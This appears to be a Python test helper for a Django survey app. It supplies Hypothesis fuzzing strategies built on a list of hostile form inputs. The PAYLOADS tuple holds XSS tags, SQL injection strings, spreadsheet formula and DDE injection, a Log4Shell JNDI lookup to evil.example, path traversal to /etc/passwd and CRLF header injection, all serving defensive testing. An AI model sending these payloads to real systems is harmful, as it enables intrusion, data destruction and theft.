"""Hostile input for the fuzzing tests (hypothesis strategies) and the checks they share.

Strings a respondent's browser, a bot or an attacker might send: very long, control characters,
every script Unicode has, text that looks like HTML, SQL, template code or a spreadsheet formula,
and mixtures of these with ordinary text.
"""

from __future__ import annotations

import contextlib
import os
from collections.abc import Iterator

from django.core.cache import cache
from django.db import transaction
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# The fuzzing tests' settings. FUZZ_EXAMPLES=500 for a longer hunt; every run draws new inputs.
FUZZ = settings(
    max_examples=int(os.environ.get("FUZZ_EXAMPLES", "60")),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# Marked so that a test can look for them, raw, in what the server sends back.
SCRIPT = "<script>alert('xss')</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
MARKUP = (SCRIPT, IMAGE, "<b>bold</b>", "<iframe src=//evil.example>")
PAYLOADS = (
    *MARKUP,
    "'; DROP TABLE surveys_submission; --",
    "1' OR '1'='1",
    '=HYPERLINK("http://evil.example","click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "{{ request.META }}",
    "{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "\x00",
    "a\x00b",
    "\r\nSet-Cookie: evil=1",
    "\u202eevil\u202c",
    "\ufeff",
    "𠀋𡈽𡌛𨋢",  # Hong Kong supplementary characters
    "ＳＥＬＥＣＴ＊",
    "null",
    "None",
    "[]",
    "9" * 5000,
    "-0",
    "1e309",
    "NaN",
)

control = st.text(st.characters(min_codepoint=0, max_codepoint=0x1F), max_size=40)
scripts = st.text(
    st.characters(
        categories=("Lu", "Ll", "Lo", "Mn", "Nd", "Pd", "Ps", "Pe", "Sm", "Sc", "So", "Zs")
    ),
    max_size=200,
)
long_text = st.integers(min_value=250, max_value=12_000).map(lambda n: ("長A<" * n)[:n])
any_text = st.text(max_size=300)


def hostile_text() -> st.SearchStrategy[str]:
    """Any one hostile string, sometimes wrapped in ordinary text."""
    base = st.one_of(st.sampled_from(PAYLOADS), control, scripts, long_text, any_text)
    return st.one_of(
        base,
        st.builds(lambda a, b, c: a + b + c, scripts, st.sampled_from(PAYLOADS), any_text),
    )


def values_for(valid: list[str]) -> st.SearchStrategy[object]:
    """What a tampered form may send for one field: a valid value, junk, lists, or nothing."""
    one = st.one_of(st.sampled_from(valid), hostile_text()) if valid else hostile_text()
    return st.one_of(
        one,
        st.lists(one, min_size=0, max_size=4),  # duplicated or several values
        st.just(None),  # the field left out
    )


def form_data(fields: dict[str, object]) -> dict[str, object]:
    """The POST body: left-out fields dropped; lists are sent as repeated keys."""
    return {name: value for name, value in fields.items() if value is not None}


def posted_markup(fields: dict[str, object]) -> list[str]:
    """The marked HTML payloads among what was posted."""
    flat: list[str] = []
    for value in fields.values():
        flat += value if isinstance(value, list) else [value] if isinstance(value, str) else []
    return [marker for marker in MARKUP if any(marker in text for text in flat)]


@contextlib.contextmanager
def example_rolled_back() -> Iterator[None]:
    """Undo each example's writes (and rate-limit counters), so examples never see each other."""
    cache.clear()
    with transaction.atomic():
        yield
        transaction.set_rollback(True)
    cache.clear()
